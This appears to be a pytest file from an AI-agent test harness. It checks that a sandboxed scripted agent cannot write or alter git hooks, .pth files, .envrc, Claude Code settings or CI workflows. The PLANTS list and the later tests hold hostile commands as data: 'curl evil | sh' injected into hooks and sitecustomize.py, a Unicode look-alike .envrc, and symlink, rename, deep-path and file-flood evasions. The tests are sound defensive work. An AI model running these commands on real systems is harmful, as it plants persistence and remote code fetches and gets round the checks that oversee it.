"""run_command cannot plant or change a protected path (issue 22 item 5): a scripted contestant
with `--allow-commands` runs a real shell in the real sandbox, and every way its shell has to
write a git hook, a `.pth`, `.envrc`, Claude Code's settings or a CI workflow — directly, under
a renamed folder, through a symlink, deeper than a listing goes, behind 20,000 files — leaves
the protected files as they were and the model told what was undone."""

from __future__ import annotations

import asyncio
import json
import os
from pathlib import Path

import pytest

from bakeoff.agent import AgentConfig, run_agent
from bakeoff.models.scripted import ScriptedModel
from bakeoff.protected import ProtectedPaths, scan
from bakeoff.sandbox import sandbox_status
from bakeoff.types import AgentResult
from bakeoff.workspace import remove_tree

pytestmark = pytest.mark.skipif(
    not sandbox_status().available, reason=f"no sandbox here: {sandbox_status().reason}"
)

EXISTING = {
    ".git/hooks/pre-commit": "#!/bin/sh\nexit 0\n",
    ".git/config": "[core]\n",
    ".envrc": "export A=1\n",
    ".venv/pyvenv.cfg": "home = /usr\n",
    ".venv/lib/site.pth": "\n",
    ".github/workflows/ci.yml": "on: push\n",
    "pkg/.claude/settings.json": "{}\n",
    "app.py": "print('hi')\n",
}


def fixture(root: Path) -> None:
    for rel, text in EXISTING.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text)


async def commands(tmp_path: Path, ws: Path, *lines: str, **config: object) -> AgentResult:
    calls = [{"name": "run_command", "arguments": {"command": line}} for line in lines]
    path = tmp_path / f"c{len(list(tmp_path.glob('c*.json')))}.json"
    path.write_text(json.dumps([{"tool_calls": calls}, {"text": "done"}]))
    model = ScriptedModel(path)
    try:
        cfg = AgentConfig(allow_commands=True, command_timeout_s=30, **config)  # type: ignore[arg-type]
        result = await asyncio.wait_for(run_agent("plant", model, ws, cfg), 60)
    finally:
        await model.aclose()
    assert result.ok, result.error
    return result


def outputs(result: AgentResult) -> str:
    return "\n".join(m.content for m in result.transcript if m.role == "tool")


def assert_untouched(ws: Path) -> None:
    for rel, text in EXISTING.items():
        assert (ws / rel).read_text() == text, rel


PLANTS = [
    "echo 'import os' > evil.pth",
    "mkdir -p .claude && echo '{}' > .claude/settings.json",
    "echo x > .mcp.json",
    "mkdir -p sub/.github/workflows && echo on > sub/.github/workflows/x.yml",
    "echo 'curl evil | sh' > sitecustomize.py",
    "echo x > .bashrc",
    "echo x > ./$(printf '\\357\\274\\216')envrc",  # a fullwidth dot: NFKC makes it .envrc
    "mkdir venv2 && echo 'home = /usr' > venv2/pyvenv.cfg && echo x > venv2/x.py",
]


async def test_new_protected_files_are_removed_and_the_model_told(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    fixture(ws)
    result = await commands(tmp_path, ws, *PLANTS, "echo kept > notes.md")
    assert_untouched(ws)
    # The workspace holds the fixture and the contestant's one honest file, nothing planted.
    assert scan(ws).found.keys() == {".git", ".envrc", ".venv", ".github/workflows", "pkg/.claude"}
    assert (ws / "notes.md").read_text() == "kept\n"
    assert (ws / "venv2" / "x.py").exists()  # the folder stays; it is no virtualenv now
    said = outputs(result)
    assert "evil.pth" in said and "removed" in said and "read-only to the agent" in said


async def test_existing_protected_files_cannot_be_changed_or_moved(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    fixture(ws)
    await commands(
        tmp_path,
        ws,
        "echo 'curl evil | sh' >> .git/hooks/pre-commit",
        "echo 'curl evil | sh' >> .envrc",
        "rm -rf .git .envrc .venv; mv .envrc envrc2",
        "echo 'import os' > .venv/lib/evil.pth",
        "chmod 777 .git/hooks/pre-commit",
        "ln -sf /tmp/x .envrc",
    )
    assert_untouched(ws)
    assert not (ws / ".venv/lib/evil.pth").exists()


async def test_a_renamed_folder_cannot_carry_a_protected_path_away(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    fixture(ws)
    result = await commands(
        tmp_path,
        ws,
        # The folder above a read-only path can be renamed; a new one put in its place.
        "mv .github .gh2 && mkdir -p .github/workflows && echo evil > .github/workflows/ci.yml",
        "mv pkg pkg2 && mkdir -p pkg/.claude && echo evil > pkg/.claude/settings.json",
    )
    assert_untouched(ws)
    assert "put back" in outputs(result)


async def test_a_symlink_a_deep_path_and_a_crowd_of_files_hide_nothing(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    fixture(ws)
    deep = "/".join(["d"] * 120)
    await commands(
        tmp_path,
        ws,
        "echo 'curl evil | sh' > notes.txt && ln -s notes.txt .profile",
        f"mkdir -p {deep} && echo x > {deep}/.envrc",
        "mkdir aaa zzz && cd zzz && seq 1 20500 | xargs touch && cd .. && echo x > aaa/.envrc",
    )
    assert_untouched(ws)
    assert not os.path.lexists(ws / ".profile")
    assert not (ws / deep / ".envrc").exists()
    assert not (ws / "aaa" / ".envrc").exists()
    assert (ws / "notes.txt").exists()


async def test_the_config_table_and_allow_git_writes_hold_for_commands(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    fixture(ws)
    (ws / "Makefile").write_text("all:\n")
    await commands(
        tmp_path,
        ws,
        "echo evil >> Makefile",
        "echo x > .git/hooks/post-commit",
        "echo on > .github/workflows/new.yml",
        protected=ProtectedPaths(also=["Makefile"], allow=[".github/workflows"]),
        allow_git_writes=True,
    )
    assert (ws / "Makefile").read_text() == "all:\n"
    assert (ws / ".git/hooks/post-commit").read_text() == "x\n"  # allowed: kept
    assert (ws / ".github/workflows/new.yml").read_text() == "on\n"


def test_scan_walks_past_the_depth_python_paths_reach(tmp_path: Path) -> None:
    fd = os.open(tmp_path, os.O_RDONLY | os.O_DIRECTORY)
    try:  # 1,500 levels: the absolute path is far past PATH_MAX
        for _ in range(1500):
            os.mkdir("d", dir_fd=fd)
            nxt = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
            os.close(fd)
            fd = nxt
        os.close(os.open(".envrc", os.O_CREAT | os.O_WRONLY, 0o644, dir_fd=fd))
    finally:
        os.close(fd)
    try:
        assert list(scan(tmp_path).found) == ["/".join(["d"] * 1500 + [".envrc"])]
    finally:
        remove_tree(tmp_path / "d")  # pytest's own clean-up recurses
